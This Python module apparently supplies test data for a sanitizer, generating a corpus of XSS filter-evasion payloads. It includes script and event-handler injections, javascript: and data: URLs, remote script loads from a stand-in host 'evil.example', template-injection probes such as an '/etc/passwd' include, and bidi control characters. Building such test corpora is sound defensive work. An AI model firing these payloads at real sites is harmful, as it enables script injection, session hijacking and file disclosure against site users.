"""Texts of strangers: 100 and more scripts in every spelling, marks that change how text is read, and
texts that are too long.

Kinds of spelling after the OWASP "XSS Filter Evasion Cheat Sheet" (events, breaking out of
attributes and elements, spelled addresses, encodings, foreign elements) and the chapters on
tokenization and on foreign content of the HTML standard; template markers and htmx's own attributes
besides, because these pages are made with them. The strings are written for this test.
"""

from typing import Final

RUN: Final = "alert(1)"
_EVENTS = (
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
)
_TAGS = ("img", "svg", "body", "input", "details", "video", "marquee", "iframe", "object", "math")
_BREAKOUTS = (
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "--!>",
    "]]>",
    "</noscript>",
    "</template>",
    "</select>",
    "</p>",
    "</svg>",
    '\\">',
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
)
_MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script/x>",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    "<script src=//evil.example/x.js></script>",
    f"<script>{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<style>@import '//evil.example';</style><x style=background:url(javascript:{RUN})>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=//evil.example/>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src onerror={RUN}>'>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<x data-hx-get=/signout data-hx-trigger=load data-hx-on:load={RUN}>",
    f"<x hx-on::load={RUN} hx-get=/signout hx-trigger=load>",
    "<template><slot onslotchange=alert(1)></slot></template>",
)
_TEMPLATES = (
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "{{ frame.csrf }}{{ view }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %>",
)
_MARKS = (
    "\u202egnp.exe\u202c",
    "a\u2066b\u2069c\u200b\u200d\ufeff",
    "\u200fabc\u061c",
    "line\nbreak\r\nand\ttab\x1b[31m\x00",
    "\ud800 lone",
    "a\u0300\u0301" * 200,
    "\U000e0041\U000e0042",
    "NaN",
    "x" * 5000,
    "\u202e" * 5000,
    "<" * 5000,
)
CORPUS: Final = (
    *_MARKUP,
    *_TEMPLATES,
    *_MARKS,
    *_ADDRESSES,
    *(f"{out}<img src=x onerror={RUN}>" for out in _BREAKOUTS),
    *(f'" {event}="{RUN}" x="' for event in _EVENTS),
    *(f"' {event}='{RUN}' autofocus x='" for event in _EVENTS),
    *(f"x {event}={RUN} " for event in _EVENTS),
    *(f"<{tag} src=x href=javascript:{RUN} onload={RUN} onerror={RUN}>{tag}" for tag in _TAGS),
    *(f"x{char}onerror={RUN}" for char in "/`=;\x0c\u2028"),
)
